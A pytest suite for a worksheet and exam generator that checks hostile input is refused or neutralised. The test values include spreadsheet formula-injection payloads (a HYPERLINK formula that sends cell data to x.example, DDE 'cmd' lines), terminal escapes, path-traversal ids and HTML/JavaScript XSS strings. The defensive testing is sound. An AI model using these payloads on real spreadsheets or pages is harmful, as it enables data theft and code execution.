"""Hostile and faulty input, one suite per kind of input: each case is refused with exit code 2 and
one line on stderr, no traceback, and the file system as it was; or it gives a correct result."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from test_grade import read_csv, write_csv

from worksheet import cli, interrupts

ROOT = Path(__file__).resolve().parent.parent


# ---------------------------------------------------------------- helpers


def snapshot(root: Path) -> dict[str, str]:
    """Every entry under root (hidden ones too): file -> sha256, folder -> 'dir', link -> its target."""
    out = {}
    for dirpath, dirs, files in os.walk(root):
        for name in dirs + files:
            p = Path(dirpath) / name
            rel = p.relative_to(root).as_posix()
            if p.is_symlink():
                out[rel] = "-> " + os.readlink(p)
            elif p.is_dir():
                out[rel] = "dir"
            elif p.is_file():
                out[rel] = hashlib.sha256(p.read_bytes()).hexdigest()
            else:
                out[rel] = "special"
    return out


def cli_run(args: list[str], capsys, monkeypatch) -> tuple[int, str]:
    """The command line in this process (its signal handlers left alone): exit code and stderr."""
    monkeypatch.setattr(interrupts, "install", lambda: None)
    monkeypatch.setattr(sys, "argv", ["worksheet", *args])
    with pytest.raises(SystemExit) as exit_:
        cli.main()
    return exit_.value.code, capsys.readouterr().err


def subprocess_run(args: list[str], cwd: Path, timeout: float = 300, env: dict | None = None):
    return subprocess.run([sys.executable, "-m", "worksheet", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=timeout, env=env)


def one_error_line(err: str) -> str:
    assert "Traceback" not in err, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("worksheet: error: "), err
    return lines[0]


def assert_refused(args: list[str], root: Path, capsys, monkeypatch, match: str | None = None) -> str:
    """args exit with code 2 and one line, and nothing under root changes."""
    before = snapshot(root)
    code, err = cli_run(args, capsys, monkeypatch)
    assert code == 2, err
    line = one_error_line(err)
    if match is not None:
        assert match in line, line
    assert snapshot(root) == before
    return line


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path




@pytest.fixture
def work(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return tmp_path


# ---------------------------------------------------------------- command-line values

SEED_LIMIT = str(2**63)

CLI_VALUES = [
    ["generate", "--layers", "2-²-2", "--seed", "1"],
    ["generate", "--layers", "2-٣-2", "--seed", "1"],
    ["generate", "--layers", "２-2", "--seed", "1"],
    ["generate", "--layers", "2--2", "--seed", "1"],
    ["generate", "--seed", SEED_LIMIT],
    ["generate", "--seed", str(2**64 + 5)],
    ["practice", "--seed", SEED_LIMIT],
    ["practice", "--seed", str(10**30)],
    ["exam", "--variants", "2", "--seed", SEED_LIMIT],
    ["generate", "--seed", "1", "--lr", "nan"],
    ["generate", "--seed", "1", "--lr", "inf"],
    ["generate", "--seed", "1", "--lr", "1e999"],
    ["generate", "--seed", "1", "--lr", "-0.0"],
    ["generate", "--seed", "1", "--leaky-slope", "nan", "--activation", "leaky_relu"],
    ["generate", "--seed", "1", "--precision", "99"],
    ["generate", "--seed", "1", "--steps", "0"],
    ["generate", "--seed", "1", "--steps", str(2**70)],
    ["generate", "--seed", "1", "--title", "a\x1b[31mred"],
    ["generate", "--seed", "1", "--title", "two\nlines"],
    ["generate", "--seed", "1", "--title", "bidi\u202eevil"],
    ["practice", "--seed", "1", "--title", "a\x07bell"],
    ["exam", "--variants", "2", "--seed", "1", "--title", "tab\there"],
    ["generate", "--seed", "1", "--out", ""],
    ["practice", "--seed", "1", "--out", ""],
    ["exam", "--variants", "2", "--seed", "1", "--out", ""],
    ["generate", "--seed", "1", "--out="],
    ["generate", "--seed", "1", "--format", ""],
    ["exam", "--variants", "0", "--seed", "1"],
    ["exam", "--variants", "99999", "--seed", "1"],
    ["exam", "--variants", "2", "--seed", "1", "--jobs", "0"],
    ["practice", "--seed", "1", "--points", "nan"],
    ["practice", "--seed", "1", "--points", "1e999"],
    ["practice", "--seed", "1", "--points", "١"],
    ["practice", "--seed", "1", "--problems", "0"],
    ["practice", "--seed", "1", "--problems", "11"],
    ["practice", "--seed", "1", "--level", "\x00"],
]


@pytest.mark.parametrize("args", CLI_VALUES, ids=[" ".join(a).encode("unicode_escape").decode() for a in CLI_VALUES])
def test_cli_values_are_refused_with_one_line(args, work, capsys, monkeypatch):
    assert_refused([*args, "--format", "md"] if "--format" not in args and args[0] != "exam" else args,
                   work, capsys, monkeypatch)


EXTREME_BUT_VALID = [
    ["generate", "--seed", "1", "--lr", "1e-30"],
    ["generate", "--seed", "1", "--lr", "5e-324"],
    ["generate", "--seed", "2", "--lr", "10", "--activation", "tanh"],
    ["generate", "--seed", str(2**63 - 1), "--layers", "1-1"],
    ["practice", "--seed", "1", "--lr", "1e-300"],
    ["practice", "--seed", "0", "--problems", "2", "--lr", "1e-30", "--activation", "relu"],
]


@pytest.mark.parametrize("args", EXTREME_BUT_VALID, ids=[" ".join(a) for a in EXTREME_BUT_VALID])
def test_extreme_valid_values_give_documents(args, work, capsys, monkeypatch):
    code, err = cli_run([*args, "--format", "md,tex,json", "--out", "out"], capsys, monkeypatch)
    assert code == 0, err
    assert "Traceback" not in err
    assert any((work / "out").iterdir())


# ---------------------------------------------------------------- TOML spec files

SPECS = {
    "deep lists": "a = " + "[" * 5000 + "]" * 5000 + "\n",
    "deep inline tables": "a = " + "{b = " * 3000 + "1" + "}" * 3000 + "\n",
    "nine levels": "input = " + "[" * 9 + "1.0" + "]" * 9 + "\n",
    "lr and learning_rate": "lr = 0.1\nlearning_rate = 0.9\n",
    "activation and activations": 'activation = "tanh"\nactivations = "relu"\n',
    "W01": "W01 = [[0.1, 0.2], [0.3, 0.4]]\n",
    "W1 and W01": "W1 = [[0.1, 0.2], [0.3, 0.4]]\nW01 = [[0.5, 0.6], [0.7, 0.8]]\n",
    "b01": "bias = true\nb01 = [0.1, 0.2]\n",
    "W²": '"W²" = [[0.1, 0.2], [0.3, 0.4]]\n',
    "W0": "W0 = [[0.1, 0.2], [0.3, 0.4]]\n",
    "unicode seed": 'seed = "¹"\n',
    "arabic seed": 'seed = "٣"\n',
    "seed 2^63": f"seed = {2**63}\n",
    "seed -1": "seed = -1\n",
    "seed 1.5": "seed = 1.5\n",
    "seed true": "seed = true\n",
    "nan input": "input = [nan, 0.5]\n",
    "inf weight": "W1 = [[inf, 0.2], [0.3, 0.4]]\n",
    "nan string": 'input = ["nan", 0.5]\n',
    "huge string": 'input = ["1e9999", 0.5]\n',
    "unicode digits string": 'input = ["٣", 0.5]\n',
    "1e308 weight": "input = [1.0, 1.0]\ntarget = [0.5, 0.5]\nW1 = [[1e308, 1e308], [0.5, 0.5]]\n",
    "1e200 tanh input": 'activation = "tanh"\ninput = [1e200, 1.0]\ntarget = [0.5, 0.5]\n',
    "huge integer": f"input = [{10**400}, 1.0]\n",
    "title escape": 'title = "a\\u001bb"\n',
    "title NUL": 'title = "a\\u0000b"\n',
    "title table": "title = {a = 1}\n",
    "input table": "input = {a = 1}\n",
    "W1 string": 'W1 = "0.1"\n',
    "layers unicode": 'layers = "2-²-2"\n',
    "layers floats": "layers = [2.0, 2]\n",
    "layers bools": "layers = [true, 2]\n",
    "duplicate key": "lr = 0.1\nlr = 0.2\n",
    "unknown key": "learningrate = 0.1\n",
    "not UTF-8": None,
}


@pytest.mark.parametrize("name", SPECS)
@pytest.mark.parametrize("command", ["generate", "practice"])
def test_spec_files_are_refused_with_one_line(name, command, work, capsys, monkeypatch):
    spec = work / "spec.toml"
    if SPECS[name] is None:
        spec.write_bytes(b'title = "caf\xe9"\n')
    else:
        write(spec, SPECS[name])
    args = [command, "--spec", "spec.toml", "--format", "md"]
    if "seed" not in name:
        args += ["--seed", "1"]
    assert_refused(args, work, capsys, monkeypatch)


VALID_SPECS = {
    "zero input": "seed = 1\ninput = [0.0, 0.5]\n",
    "zero input, tanh": 'seed = 1\nactivation = "tanh"\ninput = [0.0, 0.0]\n',
    "saturated sigmoid": ("input = [1.0, 1.0]\ntarget = [0.5, 0.5]\nW1 = [[500.0, 500.0], [500.0, 500.0]]\n"
                          "W2 = [[0.5, 0.5], [0.5, 0.5]]\n"),
    "saturated output": ("input = [1.0, 1.0]\ntarget = [0.5, 0.5]\nW1 = [[0.5, 0.5], [0.5, 0.5]]\n"
                         "W2 = [[1000.0, 1000.0], [1000.0, 1000.0]]\n"),
    "largest values": ("input = [1000000.0, -1000000.0]\ntarget = [0.5, 0.5]\nW1 = [[1e6, 1e6], [-1e6, 1e6]]\n"
                       "W2 = [[1e6, -1e6], [1e6, 1e6]]\n"),
    "dead relu": ('activation = "relu,sigmoid"\ninput = [1.0, 1.0]\ntarget = [0.5, 0.5]\n'
                  "W1 = [[-1.0, -1.0], [-1.0, -1.0]]\nW2 = [[0.5, 0.5], [0.5, 0.5]]\n"),
    "tiny lr": "seed = 3\nlr = 1e-300\n",
    "carried tiny exponential": 'seed = 0\nlayers = "1-2"\nrounding = "carried"\nprecision = 2\nW1 = [[0.0], [700.0]]\n',
    "carried ln 0": ('seed = 1\nlayers = "1-2-2"\nactivation = "relu,softmax"\nloss = "cross_entropy"\n'
                     'rounding = "carried"\nprecision = 4\ninput = [5295.9]\nW1 = [[5e-324], [2.76]]\n'
                     "W2 = [[0.83, 2.0], [-0.0, -0.5]]\n"),
    "numbers as strings": 'seed = "4"\ninput = ["0.5", "-0.25"]\n',
}


@pytest.mark.slow
@pytest.mark.parametrize("name", VALID_SPECS)
@pytest.mark.parametrize("command", ["generate", "practice"])
def test_valid_spec_files_give_documents(name, command, work, capsys, monkeypatch):
    write(work / "spec.toml", VALID_SPECS[name])
    args = [command, "--spec", "spec.toml", "--format", "md,tex,json", "--out", "out"]
    if command == "practice" and "seed" not in VALID_SPECS[name]:
        args += ["--seed", "5"]
    code, err = cli_run(args, capsys, monkeypatch)
    if code == 2:  # a value beyond what the pass can represent is refused, in one line
        one_error_line(err)
        assert not (work / "out").exists()
    else:
        assert code == 0 and "Traceback" not in err, err
        assert {p.suffix for p in (work / "out").iterdir()} >= {".md", ".tex", ".json"}


# ---------------------------------------------------------------- input files that are not files


@pytest.mark.parametrize("option", ["--spec", "--roster", "--manifest"])
@pytest.mark.parametrize("kind", ["/dev/zero", "fifo", "folder", "too large", "missing"])
def test_inputs_are_regular_files_of_bounded_size(option, kind, work):
    path = {"/dev/zero": "/dev/zero", "fifo": "pipe", "folder": "folder", "too large": "big", "missing": "nope"}[kind]
    if kind == "fifo":
        os.mkfifo(work / "pipe")
    if kind == "folder":
        (work / "folder").mkdir()
    if kind == "too large":
        with open(work / "big", "wb") as fh:
            fh.truncate(16 * 2**20 + 1)  # sparse: no disk space used
    command = {"--spec": ["generate", "--seed", "1", "--format", "md"],
               "--roster": ["exam", "--format", "md"], "--manifest": ["exam"]}[option]
    before = snapshot(work)
    result = subprocess_run([*command, option, path], work, timeout=60)
    assert result.returncode == 2, result.stderr
    one_error_line(result.stderr)
    assert snapshot(work) == before


@pytest.mark.parametrize("which", ["responses", "answers"])
@pytest.mark.parametrize("kind", ["/dev/zero", "fifo", "too large"])
def test_grading_inputs_are_regular_files_of_bounded_size(which, kind, work, exam2):
    target = work / "responses.csv" if which == "responses" else exam2 / "answers.csv"
    if target.exists():
        target.unlink()
    if kind == "/dev/zero":
        target.symlink_to("/dev/zero")
    elif kind == "fifo":
        os.mkfifo(target)
    else:
        with open(target, "wb") as fh:
            fh.truncate(16 * 2**20 + 1)
    if which == "answers":
        write_csv(work / "responses.csv", ["id", "question", "value"], [])
    before = snapshot(work)
    result = subprocess_run(["grade", "--exam", str(exam2), "--responses", "responses.csv"], work, timeout=60)
    assert result.returncode == 2, result.stderr
    one_error_line(result.stderr)
    assert snapshot(work) == before


# ---------------------------------------------------------------- rosters and spreadsheet cells

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3",
            "=1+1", "+", "-", "@", "'quoted", "''twice", "=cmd|'/c calc'!A1"]


@pytest.fixture
def exam2(work, capsys, monkeypatch):
    names = FORMULAS + ["-0.5", "Ada"]
    write_csv(work / "roster.csv", ["id", "name"], [[f"s{n}", name] for n, name in enumerate(names)])
    code, err = cli_run(["exam", "--roster", "roster.csv", "--seed", "7", "--format", "md", "--out", "exam",
                         "--level", "forward"], capsys, monkeypatch)
    assert code == 0, err
    return work / "exam"


def test_no_csv_cell_starts_a_formula_and_grade_reads_them_back(exam2, work, capsys, monkeypatch):
    answers = read_csv(exam2 / "answers.csv")
    for path in (exam2 / "answers.csv",):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for cell in row:  # the OWASP rule: no formula, and a leading '-' only on a number
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
                assert not cell.startswith("-") or cell.replace(".", "", 1).lstrip("-").isdigit(), cell
    by_id = {r["id"]: r["name"] for r in answers}
    names = FORMULAS + ["-0.5", "Ada"]
    for n, name in enumerate(names):
        shown = by_id[f"s{n}"]
        assert shown == name if name in ("-0.5", "Ada") else shown == "'" + name
    write_csv(work / "responses.csv", ["id", "question", "value"], [])
    code, err = cli_run(["grade", "--exam", "exam", "--responses", "responses.csv"], capsys, monkeypatch)
    assert code == 0, err
    graded = read_csv(exam2 / "grades.csv")
    assert [r["name"] for r in graded] == ["'" + n if n not in ("-0.5", "Ada") else n for n in names]
    from worksheet.assessment.grading import read_answers

    assert [e.name for e in read_answers(exam2)][:: len(read_answers(exam2)) // len(names)] == names


ROSTERS = {
    "NUL in a name": [["1", "a\x00b"]],
    "ESC in a name": [["1", "a\x1b[2Jb"]],
    "bidi override": [["1", "a\u202eb"]],
    "tab in a name": [["1", "a\tb"]],
    "CR in a name": [["1", "=a\rb"]],
    "ids a and A": [["a", "x"], ["A", "y"]],
    "unicode digit id": [["٣", "x"]],
    "id with slash": [["../x", "x"]],
    "empty id": [["", "x"]],
    "header only": [],
}


@pytest.mark.parametrize("name", ROSTERS)
def test_rosters_are_refused_with_one_line(name, work, capsys, monkeypatch):
    write_csv(work / "roster.csv", ["id", "name"], ROSTERS[name])
    assert_refused(["exam", "--roster", "roster.csv", "--seed", "1", "--format", "md"], work, capsys, monkeypatch)


# ---------------------------------------------------------------- responses

RESPONSES = ["1e9999999", "-1e9999999", "1e-9999999", "NaN", "nan", "inf", "-Infinity", "sNaN", "٣", "²",
             "１", "0x10", "1,5", "1_000", "1e", "--1", "1.2.3", "=1+1"]


@pytest.mark.parametrize("value", RESPONSES)
def test_responses_are_refused_with_one_line(value, exam2, work, capsys, monkeypatch):
    write_csv(work / "responses.csv", ["id", "question", "value"], [["s0", "a", "0.5"], ["s1", "a", value]])
    assert_refused(["grade", "--exam", "exam", "--responses", "responses.csv"], work, capsys, monkeypatch)


def test_extreme_responses_within_range_are_marked_wrong(exam2, work, capsys, monkeypatch):
    from worksheet.assessment.grading import read_answers

    question = read_answers(exam2)[0].question
    rows = [["s0", question, "1e999"], ["s1", question, "-1e-999"], ["s2", question, "\u22121e+500"]]
    write_csv(work / "responses.csv", ["id", "question", "value"], rows)
    code, err = cli_run(["grade", "--exam", "exam", "--responses", "responses.csv"], capsys, monkeypatch)
    assert code == 0, err
    assert {r["total"] for r in read_csv(exam2 / "grades.csv")} == {"0"}


# ---------------------------------------------------------------- answers.csv and manifest.json, hand-edited

def _set(rows, column: str, value: str):
    """The rows with the first answer's cell in `column` (found by its header) replaced."""
    at = rows[0].index(column)
    return [rows[0], rows[1][:at] + [value] + rows[1][at + 1:], *rows[2:]]


ANSWER_EDITS = {
    "header only": lambda rows: rows[:1],
    "NaN expected": lambda rows: _set(rows, "expected", "NaN"),
    "inf tolerance": lambda rows: _set(rows, "tolerance", "inf"),
    "negative tolerance": lambda rows: _set(rows, "tolerance", "-1"),
    "huge points": lambda rows: _set(rows, "points", "1e99999"),
    "unicode digits": lambda rows: _set(rows, "expected", "٣"),
    "duplicate row": lambda rows: [*rows, rows[1]],
    "missing column": lambda rows: [r[:-1] for r in rows],
    "empty id": lambda rows: [rows[0], [""] + rows[1][1:], *rows[2:]],
}


@pytest.mark.parametrize("name", ANSWER_EDITS)
def test_hand_edited_answers_are_refused_with_one_line(name, exam2, work, capsys, monkeypatch):
    path = exam2 / "answers.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    write_csv(path, ANSWER_EDITS[name](rows)[0], ANSWER_EDITS[name](rows)[1:])
    write_csv(work / "responses.csv", ["id", "question", "value"], [])
    assert_refused(["grade", "--exam", "exam", "--responses", "responses.csv"], work, capsys, monkeypatch)


def _edit(data, name):
    d = json.loads(json.dumps(data))
    s0 = d["students"][0]
    match name:
        case "options a string": d["options"] = "x"
        case "problems a string": d["options"]["problems"] = "x"
        case "network a list": d["options"]["problems"][0]["network"] = [1]
        case "students a dict": d["students"] = {"a": 1}
        case "student a string": d["students"][0] = "s0"
        case "name an object": s0["name"] = {"first": "A"}
        case "name a number": s0["name"] = 5
        case "NUL in a name": s0["name"] = "a\x00b"
        case "ESC in a name": s0["name"] = "a\x1bb"
        case "ids a and A": d["students"] = [dict(s0, id="a"), dict(s0, id="A")]
        case "id with slash": s0["id"] = "../../x"
        case "seed 2^63": d["seed"] = 2**63
        case "seed negative": d["seed"] = -1
        case "seed a string": d["seed"] = "x"
        case "seed a float": d["seed"] = 1.5
        case "seed missing": del d["seed"]
        case "formats a string": d["formats"] = "md"
        case "formats with a number": d["formats"] = [1]
        case "files a string": d["files"] = "x"
        case "title an object": d["options"]["title"] = {"a": 1}
        case "title with ESC": d["options"]["title"] = "a\x1bb"
        case "lr and learning_rate": d["options"]["problems"][0]["network"]["lr"] = 0.1
        case "lr NaN": d["options"]["problems"][0]["network"]["learning_rate"] = "NaN"
        case "schema": d["schema"] = "worksheet.exam/0"
        case "no students": d["students"] = []
        case "not an object": d = [d]
    return d


MANIFEST_EDITS = ["options a string", "problems a string", "network a list", "students a dict", "student a string",
                  "name an object", "name a number", "NUL in a name", "ESC in a name", "ids a and A",
                  "id with slash", "seed 2^63", "seed negative", "seed a string", "seed a float", "seed missing",
                  "formats a string", "formats with a number", "files a string", "title an object",
                  "title with ESC", "lr and learning_rate", "lr NaN", "schema", "no students", "not an object"]


@pytest.fixture
def manifest1(work, capsys, monkeypatch):
    code, err = cli_run(["exam", "--variants", "2", "--seed", "3", "--format", "md", "--out", "exam"],
                        capsys, monkeypatch)
    assert code == 0, err
    return json.loads((work / "exam" / "manifest.json").read_text(encoding="utf-8"))


@pytest.mark.parametrize("name", MANIFEST_EDITS)
def test_hand_edited_manifests_are_refused_with_one_line(name, manifest1, work, capsys, monkeypatch):
    write(work / "m.json", json.dumps(_edit(manifest1, name), ensure_ascii=True))
    assert_refused(["exam", "--manifest", "m.json", "--out", "again"], work, capsys, monkeypatch)


@pytest.mark.parametrize("text", [
    "", "[" * 5000 + "]" * 5000, '{"schema": "worksheet.exam/1", "seed": NaN}',
    '{"schema": "worksheet.exam/1", "schema": "worksheet.exam/1"}', '{"seed": Infinity}', "\ufeff{",
])
def test_malformed_manifest_json_is_refused_with_one_line(text, work, capsys, monkeypatch):
    write(work / "m.json", text)
    assert_refused(["exam", "--manifest", "m.json", "--out", "again"], work, capsys, monkeypatch)


@pytest.mark.parametrize("name", ["options a string", "name an object", "ids a and A", "seed 2^63"])
def test_grading_refuses_an_edited_manifest(name, manifest1, work, capsys, monkeypatch):
    write(work / "exam" / "manifest.json", json.dumps(_edit(manifest1, name)))
    write_csv(work / "responses.csv", ["id", "question", "value"], [])
    assert_refused(["grade", "--exam", "exam", "--responses", "responses.csv"], work, capsys, monkeypatch)


def test_seeds_up_to_the_limit_make_exams_that_reprint(work, capsys, monkeypatch):
    code, err = cli_run(["exam", "--variants", "2", "--seed", str(2**63 - 1), "--format", "md", "--out", "a"],
                        capsys, monkeypatch)
    assert code == 0, err
    code, err = cli_run(["exam", "--manifest", "a/manifest.json", "--out", "b"], capsys, monkeypatch)
    assert code == 0, err
    assert snapshot(work / "a") == snapshot(work / "b")


# ---------------------------------------------------------------- paths: outputs that are inputs, planted links


@pytest.mark.parametrize("out", ["exam/answers.csv", "exam/manifest.json", "responses.csv", "exam/sheets/1.md",
                                 "exam/keys/2.md", "./exam//answers.csv", "link.csv"])
def test_grade_never_writes_over_an_input(out, manifest1, work, capsys, monkeypatch):
    write_csv(work / "responses.csv", ["id", "question", "value"], [])
    (work / "link.csv").symlink_to(work / "exam" / "answers.csv")
    assert_refused(["grade", "--exam", "exam", "--responses", "responses.csv", "--out", out], work, capsys,
                   monkeypatch, match="an input of grading")


@pytest.mark.parametrize("planted", ["file", "folder", "dangling", "fifo"])
def test_a_link_or_special_file_planted_in_an_exam_folder_is_refused(planted, manifest1, work, capsys, monkeypatch):
    secret = write(work / "secret.txt", "not for students")
    where = work / "exam" / "keys" / "extra"
    if planted == "file":
        where.symlink_to(secret)
    elif planted == "folder":
        where.symlink_to(work)
    elif planted == "dangling":
        where.symlink_to(work / "nothing")
    else:
        os.mkfifo(where)
    assert_refused(["exam", "--variants", "2", "--seed", "3", "--format", "md", "--out", "exam"], work, capsys,
                   monkeypatch)


@pytest.mark.slow
def test_title_markup_is_text_in_markdown(work, capsys, monkeypatch):
    titles = ["# <img src=x onerror=alert(1)>", "[click](javascript:alert(1))", "*bold* _it_ `code` $x$ |a|b|",
              "&lt;script&gt;", "\\<b\\>"]
    for n, title in enumerate(titles):
        code, err = cli_run(["generate", "--seed", "1", "--title", title, "--format", "md", "--out", f"o{n}"],
                            capsys, monkeypatch)
        assert code == 0, err
        heading = (work / f"o{n}" / "walkthrough.md").read_text(encoding="utf-8").splitlines()[0]
        from markdown_it import MarkdownIt

        html = MarkdownIt("commonmark").render(heading)
        assert "<img" not in html and "<a " not in html and "<em>" not in html and "<code>" not in html
        assert "<script" not in html and "<b>" not in html
